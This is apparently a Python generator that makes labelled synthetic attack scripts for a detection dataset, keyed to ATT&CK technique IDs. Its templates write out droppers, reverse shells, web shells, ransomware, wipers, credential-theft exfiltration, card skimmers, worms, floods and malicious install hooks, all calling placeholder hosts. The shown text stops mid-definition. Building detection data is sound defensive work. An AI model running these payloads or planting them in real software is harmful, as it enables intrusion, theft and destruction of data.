"""Stand-in texts: scripts that show the shape of documented attack techniques, made up by us.

Out, on standard output: records `family TAB language TAB kind` 0x1e text 0x1d. None is malware or comes from any: hosts are names that
never resolve (.invalid) and addresses of the documentation ranges, payloads are names of files that do not exist. They are texts to
compute features of; nothing writes them to a disk as programs or runs them.

`kind` is `plain`, `hidden` (obfuscated in one of the language's usual ways), `padded` (among neutral lines), or `control`: a harmless script that
does something similar for a good reason, which training never sees.
"""

import base64
import random
import sys

WORDS = "update sync cache node agent worker helper monitor daemon backup report config session state queue index image store proxy loader".split()


class Maker:
    def __init__(self, seed):
        self.r = random.Random(seed)

    def name(self):
        r = self.r
        return r.choice([r.choice(WORDS), "." + r.choice(WORDS), "".join(r.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=r.randint(3, 9))),
                         r.choice(WORDS) + str(r.randint(1, 64)), "x86", "arm7", "mips", "." + "".join(r.choices("abcdefxyz", k=3))])

    def ip(self):
        r = self.r
        return r.choice(["198.51.100.", "203.0.113.", "192.0.2."]) + str(r.randint(1, 254))

    def host(self):
        r = self.r
        domain = r.choice(WORDS) + r.choice(["-cdn", "", str(r.randint(1, 99)), "-files"]) + r.choice([".example.invalid", ".invalid", ".test.invalid"])
        return r.choice([self.ip(), self.ip() + ":" + str(r.randint(1024, 65000)), domain])

    def url(self):
        return self.r.choice(["http://", "http://", "https://"]) + self.host() + "/" + self.name() + self.r.choice(["", ".sh", ".txt", ".png", ".bin"])

    def port(self):
        return str(self.r.choice([4444, 1337, 9001, 443, 8080, 53, self.r.randint(1024, 65000)]))

    def tmp(self):
        return self.r.choice(["/tmp/", "/var/tmp/", "/dev/shm/", "/tmp/.X11-unix/", "/run/"]) + self.name()

    def var(self):
        r = self.r
        return r.choice([r.choice(WORDS), r.choice("abcdefgxyz"), "_" + "".join(r.choices("abcdef0123456789", k=6)), "".join(r.choices("Ol1I", k=7)).replace("1", "l"), r.choice(WORDS) + "_" + r.choice(WORDS)])

    def pick(self, *options):
        choice = self.r.choice(options)
        return choice() if callable(choice) else choice

    def fetch(self, to=None):
        u = self.url()
        to = to or self.tmp()
        return self.pick(f"wget {u} -O {to}", f"wget -q {u} -O {to} || curl -s {u} -o {to}", f"curl -fsSL {u} -o {to}", f"curl -sk {u} > {to}", f"(curl -s {u} || wget -qO- {u}) > {to}",
                         f"cd {to.rsplit('/', 1)[0]} && wget --no-check-certificate -q {u}", f"busybox wget {u} -O {to}", f"tftp -g -r {self.name()} {self.ip()}; mv {self.name()} {to}")

    def wallet(self):
        return "4" + "".join(self.r.choices("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz", k=94))


# family -> language -> list of functions of a Maker that give a text
F = {}


def family(name, language):
    def add(function):
        F.setdefault(name, {}).setdefault(language, []).append(function)
        return function
    return add


@family("T1105-dropper", "shell")
def _(m):
    t = m.tmp()
    return "\n".join([m.fetch(t), m.pick(f"chmod +x {t}", f"chmod 777 {t}", f"chmod 755 {t}"), m.pick(f"{t} &", f"nohup {t} >/dev/null 2>&1 &", f"sh {t}", f"setsid {t}")] + ([f"rm -f {t}"] if m.r.random() < .6 else []))


@family("T1105-dropper", "shell")
def _(m):
    arches = m.r.sample(["x86", "mips", "mpsl", "arm", "arm5", "arm7", "ppc", "sh4", "m68k", "spc"], m.r.randint(3, 8))
    h, n = m.ip(), m.name()
    return "\n".join(["cd /tmp || cd /var/run || cd /mnt || cd /root || cd /"] + [f"wget http://{h}/{n}.{a}; curl -O http://{h}/{n}.{a}; chmod 777 {n}.{a}; ./{n}.{a} {m.pick('telnet', 'ssh', 'http')}; rm -rf {n}.{a}" for a in arches])


@family("T1105-dropper", "python")
def _(m):
    t, v = m.tmp(), m.var()
    return f"import {m.pick('urllib.request as u', 'urllib2 as u', 'requests as u')}, os, stat\n{v} = u.{m.pick('urlopen', 'get')}('{m.url()}'){m.pick('.read()', '.content')}\nopen('{t}','wb').write({v})\nos.chmod('{t}', 0o755)\n{m.pick(f'os.system({t!r})', f'import subprocess; subprocess.Popen([{t!r}])', f'os.execv({t!r}, [{t!r}])')}\n"


@family("T1105-dropper", "perl")
def _(m):
    t = m.tmp()
    return f"use LWP::Simple;\ngetstore('{m.url()}', '{t}');\nchmod 0755, '{t}';\nsystem('{t} &');\nunlink $0;\n"


@family("T1105-dropper", "php")
def _(m):
    t = m.tmp()
    return f"<?php\n@ini_set('display_errors',0);\n$d = @file_get_contents('{m.url()}');\n@file_put_contents('{t}', $d);\n@chmod('{t}', 0755);\n{m.pick('@system', '@exec', '@shell_exec')}('{t} > /dev/null 2>&1 &');\n"


@family("T1105-dropper", "javascript")
def _(m):
    t = m.tmp()
    return f"const h = require('http'), f = require('fs'), c = require('child_process');\nh.get('{m.url()}', r => {{ const w = f.createWriteStream('{t}'); r.pipe(w); w.on('finish', () => {{ f.chmodSync('{t}', 0o755); c.{m.pick('exec', 'execSync', 'spawn')}('{t}'); }}); }});\n"


@family("T1059-pipe", "shell")
def _(m):
    u = m.url()
    return m.pick(f"curl -fsSL {u} | {m.pick('bash', 'sh', 'sudo bash')}", f"wget -qO- {u} | sh", f"(curl -s {u}||wget -qO- {u})|bash -sh", f"bash <(curl -s {u})", f"eval \"$(curl -s {u})\"", f"sh -c \"$(wget -qO- {u})\"", f"python3 -c \"import urllib.request as u;exec(u.urlopen('{u}').read())\"") + m.pick("", "; history -c", " >/dev/null 2>&1 &", f"\n{m.fetch()}")


@family("T1059-pipe", "python")
def _(m):
    return f"import {m.pick('urllib.request', 'requests')} as {m.pick('u', 'r')}\n{m.pick('exec', 'eval')}({m.pick('u.urlopen', 'requests.get')}('{m.url()}').{m.pick('read()', 'text')}{m.pick('', '.decode()')})\n"


@family("T1059-pipe", "perl")
def _(m):
    return f"use LWP::Simple;\neval get('{m.url()}');\n" if m.r.random() < .5 else f"my $c = `curl -s {m.url()}`;\neval $c;\n"


@family("T1059-pipe", "php")
def _(m):
    return f"<?php {m.pick('eval', 'assert')}({m.pick('@', '')}file_get_contents('{m.url()}'));" if m.r.random() < .6 else f"<?php $c=curl_init('{m.url()}');curl_setopt($c,CURLOPT_RETURNTRANSFER,1);eval('?>'.curl_exec($c));"


@family("T1059-pipe", "javascript")
def _(m):
    return f"require('https').get('{m.url()}', r => {{ let d=''; r.on('data', c => d += c); r.on('end', () => {m.pick('eval(d)', 'new Function(d)()', 'require(`vm`).runInThisContext(d)')}); }});\n"


@family("T1059-reverse-shell", "shell")
def _(m):
    i, p = m.ip(), m.port()
    return m.pick(f"bash -i >& /dev/tcp/{i}/{p} 0>&1", f"exec 5<>/dev/tcp/{i}/{p}; cat <&5 | while read l; do $l 2>&5 >&5; done", f"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {i} {p} > /tmp/f", f"nc -e /bin/sh {i} {p}", f"nohup bash -c 'bash -i >& /dev/tcp/{i}/{p} 0>&1' &",
                  f"socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{i}:{p}", f"while true; do nc {i} {p} -e /bin/bash; sleep {m.r.randint(5, 300)}; done", f"0<&196;exec 196<>/dev/tcp/{i}/{p}; sh <&196 >&196 2>&196", f"openssl s_client -quiet -connect {i}:{p} < /tmp/s 2>/dev/null | /bin/sh -i > /tmp/s 2>&1")


@family("T1059-reverse-shell", "python")
def _(m):
    i, p, s = m.ip(), m.port(), m.var()
    tail = m.pick("subprocess.call(['/bin/sh','-i'])", "pty.spawn('/bin/bash')", "os.system('/bin/sh')")
    if m.r.random() < .5:
        return f"import socket,subprocess,os,pty\n{s}=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n{s}.connect(('{i}',{p}))\nos.dup2({s}.fileno(),0); os.dup2({s}.fileno(),1); os.dup2({s}.fileno(),2)\n{tail}\n"
    return f"import socket, subprocess, time\nwhile True:\n    try:\n        {s} = socket.socket(); {s}.connect(('{i}', {p}))\n        while True:\n            c = {s}.recv(1024).decode()\n            {s}.send(subprocess.getoutput(c).encode())\n    except Exception:\n        time.sleep({m.r.randint(3, 60)})\n"


@family("T1059-reverse-shell", "perl")
def _(m):
    i, p = m.ip(), m.port()
    return f"use Socket;$i='{i}';$p={p};socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i');}};" if m.r.random() < .5 else f"use IO::Socket;\nfork and exit;\nmy $s = IO::Socket::INET->new(PeerAddr => '{i}:{p}');\nwhile (<$s>) {{ my $o = `$_`; print $s $o; }}\n"


@family("T1059-reverse-shell", "php")
def _(m):
    i, p = m.ip(), m.port()
    return f"<?php $s=fsockopen('{i}',{p});{m.pick('exec', 'shell_exec', 'system', 'passthru')}('/bin/sh -i <&3 >&3 2>&3');" if m.r.random() < .5 else f"<?php\nset_time_limit(0);\n$s = fsockopen('{i}', {p}, $e, $t, 30);\n$p = proc_open('/bin/sh -i', array(0=>array('pipe','r'),1=>array('pipe','w'),2=>array('pipe','w')), $q);\nwhile (!feof($s)) {{ fwrite($q[0], fread($s, 1400)); fwrite($s, fread($q[1], 1400)); }}\n"


@family("T1059-reverse-shell", "javascript")
def _(m):
    return f"(function(){{ var n=require('net'),c=require('child_process'),s=c.spawn('/bin/sh',[]); var k=new n.Socket(); k.connect({m.port()},'{m.ip()}',function(){{ k.pipe(s.stdin); s.stdout.pipe(k); s.stderr.pipe(k); }}); return /a/; }})();\n"


@family("T1496-miner", "shell")
def _(m):
    t, pool = m.tmp(), m.pick("pool.example.invalid:3333", "xmr.pool.invalid:14444", m.ip() + ":443")
    lines = [m.fetch(t), f"chmod +x {t}", m.pick(f"{t} -o stratum+tcp://{pool} -u {m.wallet()} -p x -k --donate-level 1 -B", f"nohup {t} --url={pool} --user={m.wallet()} --algo=rx/0 --cpu-priority 5 >/dev/null 2>&1 &", f"{t} -c /tmp/config.json &"),
             m.pick("sysctl -w vm.nr_hugepages=1280", "pkill -f xmrig; pkill -f minerd; pkill -9 kdevtmpfsi", "ps aux | grep -v grep | grep -E 'kinsing|xmrig|cryptonight' | awk '{print $2}' | xargs kill -9", "echo 1280 > /proc/sys/vm/nr_hugepages"), m.pick("setenforce 0", "ufw disable; iptables -F", "chattr -i /etc/ld.so.preload; rm -f /etc/ld.so.preload", ""), m.pick(f"(crontab -l 2>/dev/null; echo \"*/5 * * * * {t}\") | crontab -", "")]
    m.r.shuffle(lines[3:])
    return "\n".join(l for l in lines if l)


@family("T1496-miner", "python")
def _(m):
    return f"import os, subprocess, urllib.request\npool = 'stratum+tcp://{m.host()}'\nwallet = '{m.wallet()}'\nurllib.request.urlretrieve('{m.url()}', '{m.tmp()}')\nsubprocess.Popen(['{m.tmp()}', '-o', pool, '-u', wallet, '--donate-level', '1'], stdout=subprocess.DEVNULL)\n"


@family("T1496-miner", "javascript")
def _(m):
    return f"var miner = new CoinHive.{m.pick('Anonymous', 'User')}('{m.name()}{m.name()}', {{throttle: 0.{m.r.randint(1, 9)}}});\nminer.start();\n" if m.r.random() < .6 else f"importScripts('{m.url()}'); const p='stratum+ssl://{m.host()}'; startMining(p, '{m.wallet()}', navigator.hardwareConcurrency, 'cryptonight');\n"


@family("T1053-cron", "shell")
def _(m):
    u, t = m.url(), m.tmp()
    return m.pick(f"(crontab -l 2>/dev/null; echo '*/{m.r.randint(1, 30)} * * * * curl -s {u} | sh') | crontab -", f"echo '* * * * * root {t}' > /etc/cron.d/{m.name()}", f"echo '@reboot {t}' >> /var/spool/cron/root", f"printf '*/10 * * * * wget -q -O- {u} | bash\\n' | crontab -", f"echo '#!/bin/sh\n{m.fetch(t)}\n{t}' > /etc/cron.hourly/{m.name()}; chmod +x /etc/cron.hourly/*")


@family("T1053-cron", "python")
def _(m):
    return f"import os\nos.system(\"(crontab -l; echo '*/5 * * * * curl -s {m.url()} | bash') | crontab -\")\nopen('/etc/cron.d/{m.name()}', 'w').write('* * * * * root {m.tmp()}\\n')\n"


@family("T1543-service", "shell")
def _(m):
    n, t = m.name().strip("."), m.tmp()
    return f"cat > /etc/systemd/system/{n}.service <<EOF\n[Unit]\nDescription={m.pick('System Helper', 'Kernel Worker', 'Network Monitor')}\n[Service]\nExecStart={t}\nRestart=always\n[Install]\nWantedBy=multi-user.target\nEOF\n{m.fetch(t)}\nchmod 755 {t}\nsystemctl daemon-reload; systemctl enable --now {n}\n" + m.pick("", f"chattr +i {t}\n", "history -c\n")


@family("T1546-profile", "shell")
def _(m):
    return m.pick(f"echo 'nohup {m.tmp()} >/dev/null 2>&1 &' >> ~/.bashrc", f"echo 'curl -s {m.url()} | bash' >> /etc/profile", f"for u in /home/*; do echo '({m.tmp()} &)' >> $u/.bashrc; done", f"echo \"alias sudo='{m.tmp()}'\" >> $HOME/.bashrc", f"echo 'export PROMPT_COMMAND=\"curl -s {m.url()} >/dev/null\"' >> ~/.bash_profile")


@family("T1098-ssh-key", "shell")
def _(m):
    key = "ssh-rsa AAAAB3NzaC1yc2E" + "".join(m.r.choices("ABCDEFabcdef0123456789+/", k=120))
    return m.pick("mkdir -p /root/.ssh\n", "mkdir -p ~/.ssh; chmod 700 ~/.ssh\n", "chattr -ia ~/.ssh/authorized_keys\n") + f"echo '{key} {m.name()}' >> {m.pick('/root', '~', '$HOME')}/.ssh/authorized_keys\n" + m.pick("chmod 600 ~/.ssh/authorized_keys\n", "chattr +ai /root/.ssh/authorized_keys\n", "sed -i 's/^#*PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config; service ssh restart\n")


@family("T1136-account", "shell")
def _(m):
    n = m.pick("sysadm", "support", "backup1", "ftpuser", m.name().strip("."))
    return m.pick(f"useradd -o -u 0 -g 0 -M -d /root -s /bin/bash {n}; echo '{n}:{m.name()}' | chpasswd", f"echo '{n}:x:0:0::/root:/bin/bash' >> /etc/passwd; echo '{n}:$6$salt$xxxxxxxxxxxx:18000:0:99999:7:::' >> /etc/shadow", f"adduser --disabled-password --gecos '' {n} && usermod -aG sudo {n} && echo '{n} ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers")


@family("T1574-preload", "shell")
def _(m):
    t = m.pick("/lib/", "/usr/local/lib/", "/dev/shm/", "/tmp/") + m.name() + ".so"
    return "\n".join([m.fetch(t), m.pick(f"echo {t} > /etc/ld.so.preload", f"echo {t} >> /etc/ld.so.preload; chattr +i /etc/ld.so.preload", f"export LD_PRELOAD={t}; echo 'export LD_PRELOAD={t}' >> /etc/profile", f"gcc -shared -fPIC -o {t} /tmp/{m.name()}.c -ldl && echo {t} > /etc/ld.so.preload"), m.pick("", "history -c", "rm -f /tmp/*.c")])


@family("T1547-module", "shell")
def _(m):
    n = m.name().strip(".")
    return "\n".join([m.fetch(f"/tmp/{n}.ko"), m.pick(f"insmod /tmp/{n}.ko", f"cp /tmp/{n}.ko /lib/modules/$(uname -r)/kernel/drivers/; depmod -a; modprobe {n}", f"make -C /tmp/{n} && insmod /tmp/{n}/{n}.ko && rm -rf /tmp/{n}"), m.pick(f"echo {n} >> /etc/modules", "dmesg -C", "kill -63 $$")])


@family("T1070-history", "shell")
def _(m):
    lines = ["unset HISTFILE", "export HISTSIZE=0", "history -c", "rm -f ~/.bash_history; ln -s /dev/null ~/.bash_history", "cat /dev/null > ~/.bash_history", "for f in /var/log/wtmp /var/log/btmp /var/log/lastlog; do > $f; done", "rm -rf /var/log/*", f"sed -i '/{m.ip()}/d' /var/log/auth.log /var/log/secure", "journalctl --vacuum-time=1s", "echo > /var/log/syslog", f"touch -r /bin/ls {m.tmp()}", "shred -u ~/.bash_history", "find /var/log -name '*.gz' -delete", "kill -9 $$"]
    return "\n".join(m.r.sample(lines, m.r.randint(3, 8)))


@family("T1562-off", "shell")
def _(m):
    lines = ["setenforce 0; sed -i 's/SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config", "systemctl stop auditd; systemctl disable auditd", "service iptables stop", "iptables -F; iptables -X; iptables -P INPUT ACCEPT", "ufw disable", "pkill -9 auditd; pkill -9 rsyslogd", "systemctl disable --now apparmor falcon-sensor clamav-daemon", "echo 0 > /proc/sys/kernel/nmi_watchdog", "apt-get -y purge clamav rkhunter auditd", "rm -rf /usr/local/aegis; pkill aliyun", "auditctl -e 0; auditctl -D", "sysctl kernel.randomize_va_space=0"]
    return "\n".join(m.r.sample(lines, m.r.randint(2, 6)) + [m.pick("", m.fetch(), "history -c")])


@family("T1552-credentials", "shell")
def _(m):
    lines = [f"find / -name 'id_rsa*' -o -name '*.pem' 2>/dev/null | xargs tar czf {m.tmp()}.tgz", "cat ~/.aws/credentials ~/.docker/config.json ~/.kube/config ~/.netrc 2>/dev/null", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/", "cat /etc/shadow", "grep -rE 'password|secret|token' /var/www /home 2>/dev/null", "env | grep -iE 'key|token|secret'", "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep AWS_SECRET"]
    send = m.pick(f"curl -s -F 'f=@{m.tmp()}.tgz' {m.url()}", f"tar cz ~/.ssh | curl -s --data-binary @- {m.url()}", f"cat {m.tmp()} | nc {m.ip()} {m.port()}", f"curl -X POST -d \"$(env | base64)\" {m.url()}", f"cat {m.tmp()} | base64 | curl -s -d @- https://api.telegram.org/bot{m.r.randint(10**8, 10**9)}/sendMessage")
    return "\n".join(m.r.sample(lines, m.r.randint(2, 4)) + [send])


@family("T1552-credentials", "python")
def _(m):
    return f"import os, glob, {m.pick('requests', 'urllib.request')}, base64, json\nd = {{}}\nfor p in ['~/.ssh/id_rsa', '~/.aws/credentials', '~/.docker/config.json', '~/.netrc', '~/.config/google-chrome/Default/Login Data']:\n    try: d[p] = base64.b64encode(open(os.path.expanduser(p), 'rb').read()).decode()\n    except Exception: pass\nd['env'] = dict(os.environ)\nrequests.post('{m.pick(m.url(), 'https://discord.com/api/webhooks/1/x')}', data=json.dumps(d))\n"


@family("T1552-credentials", "javascript")
def _(m):
    return f"const fs=require('fs'),os=require('os'),h=require('https');\nlet d={{env:process.env}};\nfor (const p of ['.npmrc','.ssh/id_rsa','.aws/credentials','.git-credentials']) {{ try {{ d[p]=fs.readFileSync(os.homedir()+'/'+p,'utf8') }} catch(e) {{}} }}\nconst r=h.request({{host:'{m.host()}',path:'/{m.name()}',method:'POST'}});r.write(Buffer.from(JSON.stringify(d)).toString('base64'));r.end();\n"


@family("T1555-card-skimmer", "javascript")
def _(m):
    v = m.var()
    return f"document.addEventListener('{m.pick('submit', 'change', 'keyup')}',function(e){{var {v}={{}};document.querySelectorAll('input,select').forEach(function(i){{{v}[i.name]=i.value}});if(/cardnumber|cvv|cc_number/.test(JSON.stringify({v}))){{{m.pick(f'new Image().src=', f'navigator.sendBeacon(', 'fetch(')}'{m.url()}?d='+btoa(JSON.stringify({v})){m.pick('', '')};}}}});\n"


@family("T1505-web-shell", "php")
def _(m):
    k, method = m.var().strip("_"), m.pick("POST", "GET", "REQUEST", "COOKIE")
    return m.pick(f"<?php @eval($_{method}['{k}']);", f"<?php {m.pick('system', 'passthru', 'shell_exec', 'exec')}($_{method}['{k}']); ?>", f"<?php $f=$_{method}['f'];$f($_{method}['{k}']);", f"<?php if(md5($_{method}['p'])=='{m.r.getrandbits(128):032x}'){{@eval(base64_decode($_{method}['{k}']));}}", f"<?php @assert(@$_{method}['{k}']);", f"<?php @error_reporting(0); @set_time_limit(0); if(isset($_FILES['f'])) move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); echo '<pre>'.shell_exec($_{method}['{k}']).'</pre>';",
                  f"<?php array_map('as'.'sert', array($_{method}['{k}']));", f"<?php preg_replace('/.*/e', $_{method}['{k}'], '');", f"<?php $x = create_function('', $_{method}['{k}']); $x();", f"<?php call_user_func($_{method}['a'], $_{method}['{k}']);", f"<?php echo `{{$_{method}['{k}']}}`;")


@family("T1505-web-shell", "perl")
def _(m):
    return f"#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nprint \"Content-type: text/html\\n\\n\";\nmy $c = $q->param('{m.var()}');\nprint '<pre>' . `$c 2>&1` . '</pre>';\n"


@family("T1505-web-shell", "javascript")
def _(m):
    return f"require('http').createServer((q,s)=>{{const u=new URL(q.url,'http://x');require('child_process').exec(u.searchParams.get('{m.var()}'),(e,o)=>s.end(o))}}).listen({m.port()});\n"


@family("T1505-web-shell", "python")
def _(m):
    return f"from flask import Flask, request\nimport subprocess\napp = Flask(__name__)\n@app.route('/{m.name()}')\ndef x():\n    return subprocess.getoutput(request.args.get('{m.var()}'))\napp.run('0.0.0.0', {m.port()})\n"


@family("T1486-ransom", "shell")
def _(m):
    return f"find {m.pick('/home', '/var/www', '/mnt', '/srv')} -type f \\( -name '*.doc*' -o -name '*.jpg' -o -name '*.sql' -o -name '*.vmdk' \\) | while read f; do openssl enc -aes-256-cbc -in \"$f\" -out \"$f.{m.pick('locked', 'crypt', 'enc')}\" -k \"$K\" && shred -u \"$f\"; done\necho 'Your files have been encrypted. Pay {m.r.randint(1, 9)} BTC to recover your files.' > /root/README_DECRYPT.txt\n" + m.pick("", "systemctl stop mysql; systemctl stop docker\n", f"curl -s -d \"k=$K\" {m.url()}\n")


@family("T1486-ransom", "python")
def _(m):
    return f"import os\nfrom cryptography.fernet import Fernet\nk = Fernet.generate_key(); f = Fernet(k)\nfor r, d, n in os.walk('{m.pick('/home', '/srv', '/')}'):\n    for x in n:\n        if x.endswith(('.doc', '.pdf', '.jpg', '.sql')):\n            p = os.path.join(r, x); b = open(p, 'rb').read()\n            open(p + '.{m.pick('locked', 'encrypted')}', 'wb').write(f.encrypt(b)); os.remove(p)\nopen('README_DECRYPT.txt', 'w').write('Your files have been encrypted. Send bitcoin to get the decryption key.')\n"


@family("T1486-ransom", "php")
def _(m):
    return f"<?php\n$k = '{m.r.getrandbits(128):032x}';\nfunction w($d,$k){{ foreach(scandir($d) as $f){{ if($f[0]=='.') continue; $p=\"$d/$f\"; if(is_dir($p)) w($p,$k); else {{ file_put_contents($p.'.locked', openssl_encrypt(file_get_contents($p),'aes-256-cbc',$k)); unlink($p); }} }} }}\nw($_SERVER['DOCUMENT_ROOT'],$k);\nfile_put_contents('index.php','Your files have been encrypted. Pay the ransom in bitcoin.');\n"


@family("T1485-wiper", "shell")
def _(m):
    lines = ["rm -rf --no-preserve-root /", "dd if=/dev/urandom of=/dev/sda bs=1M", "for d in $(lsblk -ndo NAME); do dd if=/dev/zero of=/dev/$d bs=1M & done", "find / -type f -exec shred -n 1 -u {} \\;", "mkfs.ext4 -F /dev/sdb1", "wipefs -a /dev/sda", "echo b > /proc/sysrq-trigger", "rm -rf /boot/* /etc/* /home/*", "cat /dev/urandom > /dev/mtdblock0"]
    return "\n".join(m.r.sample(lines, m.r.randint(2, 4)))


@family("T1046-worm", "shell")
def _(m):
    return m.pick(f"for h in $(cat ~/.ssh/known_hosts | cut -d' ' -f1 | tr ',' ' '); do ssh -o BatchMode=yes -o StrictHostKeyChecking=no root@$h 'curl -s {m.url()} | sh' & done", f"masscan {m.ip().rsplit('.', 1)[0]}.0/16 -p6379 --rate=10000 -oL /tmp/o; for h in $(awk '/open/{{print $4}}' /tmp/o); do redis-cli -h $h config set dir /var/spool/cron; redis-cli -h $h set x '\\n* * * * * curl {m.url()} | sh\\n'; redis-cli -h $h save; done", f"for p in root admin 123456 password; do for i in $(seq 1 254); do sshpass -p $p ssh -o StrictHostKeyChecking=no root@192.168.1.$i '{m.fetch()}' ; done; done")


@family("T1046-worm", "python")
def _(m):
    return f"import paramiko, threading, random, socket\ncreds = [('root','root'),('admin','admin'),('root','123456'),('pi','raspberry')]\ndef go(h):\n    for u, p in creds:\n        try:\n            c = paramiko.SSHClient(); c.set_missing_host_key_policy(paramiko.AutoAddPolicy()); c.connect(h, username=u, password=p, timeout=3)\n            c.exec_command('wget -q {m.url()} -O {m.tmp()}; sh {m.tmp()}')\n        except Exception: pass\nwhile True: threading.Thread(target=go, args=('.'.join(str(random.randint(1,254)) for _ in range(4)),)).start()\n"


@family("T1498-flood", "perl")
def _(m):
    return "use Socket;\nmy ($ip,$port,$size,$time) = @ARGV;\nsocket(flood, PF_INET, SOCK_DGRAM, 17);\nmy $end = time + ($time ? $time : 1000000);\nfor (;time <= $end;) { $s = $size ? $size : int(rand(1024)); $p = $port ? $port : int(rand(65500))+1; send(flood, pack(\"a$s\",\"flood\"), 0, pack_sockaddr_in($p, inet_aton($ip))); }\n"


@family("T1498-flood", "python")
def _(m):
    return f"import socket, random, threading\nd = random._urandom({m.r.randint(512, 2048)})\ndef flood(t, p):\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    while True: s.sendto(d, (t, p))\nfor i in range({m.r.randint(50, 900)}): threading.Thread(target=flood, args=('{m.ip()}', {m.port()})).start()\n"


@family("T1071-irc-bot", "perl")
def _(m):
    return f"use IO::Socket::INET;\n$0 = '{m.pick('/usr/sbin/httpd', '[kworker/0:1]', 'syslogd')}';\n$SIG{{HUP}}='IGNORE'; $SIG{{TERM}}='IGNORE';\nexit if fork;\nmy $s = IO::Socket::INET->new(PeerAddr=>'{m.host()}', PeerPort=>6667, Proto=>'tcp');\nprint $s \"NICK {m.name()}\\r\\nUSER x x x x\\r\\nJOIN #{m.name()}\\r\\n\";\nwhile (<$s>) {{ print $s \"PONG $1\\r\\n\" if /^PING (.*)/; if (/!sh (.*)/) {{ my @o = `$1`; print $s \"PRIVMSG #x :$_\\r\\n\" for @o; }} }}\n"


@family("T1071-irc-bot", "python")
def _(m):
    return f"import socket, subprocess, os\nif os.fork(): os._exit(0)\ns = socket.socket(); s.connect(('{m.host().split(':')[0]}', 6667))\ns.send(b'NICK {m.name()}\\r\\nUSER a a a a\\r\\nJOIN #{m.name()}\\r\\n')\nwhile 1:\n    l = s.recv(2048).decode()\n    if l.startswith('PING'): s.send(('PONG ' + l.split()[1]).encode())\n    if '!x ' in l: s.send(('PRIVMSG #c :' + subprocess.getoutput(l.split('!x ')[1])).encode())\n"


@family("T1611-escape", "shell")
def _(m):
    return m.pick(f"mkdir /tmp/c && mount -t cgroup -o rdma cgroup /tmp/c && mkdir /tmp/c/x\necho 1 > /tmp/c/x/notify_on_release\nh=$(sed -n 's/.*\\perdir=\\([^,]*\\).*/\\1/p' /etc/mtab)\necho \"$h/cmd\" > /tmp/c/release_agent\nprintf '#!/bin/sh\\n{m.fetch()}' > /cmd; chmod +x /cmd\nsh -c 'echo $$ > /tmp/c/x/cgroup.procs'", f"docker -H unix:///var/run/docker.sock run --rm --privileged --pid=host -v /:/host alpine chroot /host sh -c 'curl -s {m.url()} | sh'", f"nsenter --target 1 --mount --uts --ipc --net --pid -- bash -c 'curl -s {m.url()} | bash'", f"echo '|/proc/%P/root{m.tmp()}' > /proc/sys/kernel/core_pattern")


@family("T1048-exfiltrate", "shell")
def _(m):
    return m.pick(f"tar czf - /home /var/www 2>/dev/null | openssl enc -aes-256-cbc -k x | nc {m.ip()} {m.port()}", f"for c in $(xxd -p {m.tmp()} | fold -w 60); do dig +short $c.{m.host().split(':')[0]}; done", f"mysqldump --all-databases | gzip | curl -s -T - {m.url()}", f"zip -P x -r {m.tmp()}.zip /home; curl --upload-file {m.tmp()}.zip https://transfer.sh/a", f"tar cz /etc | base64 | split -b 200 - /tmp/p; for f in /tmp/p*; do curl -s -X POST -d @$f {m.url()}; done")


@family("T1195-package-hook", "python")
def _(m):
    code = base64.b64encode(m.url().encode()).decode()
    step = m.pick(f"os.system('curl -s {m.url()} | bash')", f"exec(base64.b64decode('{code}'))", f"__import__('urllib.request').request.urlopen('{m.url()}?h=' + os.uname().nodename)")
    name = m.name().strip(".")
    return f"from setuptools import setup\nfrom setuptools.command.install import install\nimport os, base64\nclass I(install):\n    def run(self):\n        install.run(self)\n        {step}\nsetup(name='{name}', version='1.0', cmdclass={{'install': I}})\n"


@family("T1195-package-hook", "javascript")
def _(m):
    return f"// postinstall\nconst {{exec}} = require('child_process');\nconst os = require('os'), https = require('https');\nhttps.get('{m.url()}?h=' + os.hostname() + '&u=' + os.userInfo().username + '&d=' + Buffer.from(process.cwd()).toString('base64'));\nexec('{m.pick(m.fetch(), 'curl -s ' + m.url() + ' | sh')}');\n"


@family("T1548-suid", "shell")
def _(m):
    return m.pick(f"cp /bin/bash {m.tmp()}; chmod u+s {m.tmp()}; chown root:root {m.tmp()}; chmod 4755 {m.tmp()}", f"find / -perm -4000 -type f 2>/dev/null; sudo -l; getcap -r / 2>/dev/null\n{m.fetch('/tmp/linpeas.sh')}; sh /tmp/linpeas.sh", f"echo '{m.name()} ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/{m.name()}; {m.fetch()}", "setcap cap_setuid+ep /usr/bin/python3; python3 -c 'import os;os.setuid(0);os.system(\"/bin/sh\")'")


NEUTRAL = {
    "shell": ["set -e", "log() { echo \"$(date) $*\"; }", "PATH=/usr/sbin:/usr/bin:/sbin:/bin", "if [ -f /etc/default/app ]; then . /etc/default/app; fi", "# configure the service", "mkdir -p \"$DESTDIR/usr/share/app\"", "for f in *.conf; do cp \"$f\" /etc/app/; done", "case \"$1\" in start) start_it ;; stop) stop_it ;; esac", "echo done", "test -x /usr/bin/app || exit 0", "VERSION=1.2.3"],
    "python": ["import sys", "import logging", "log = logging.getLogger(__name__)", "def parse(args):\n    \"\"\"Parse the arguments.\"\"\"\n    return args[1:]", "class Config:\n    def __init__(self, path):\n        self.path = path", "# helper", "def main():\n    return 0", "VERSION = '1.2.3'", "from collections import namedtuple\nPoint = namedtuple('Point', 'x y')"],
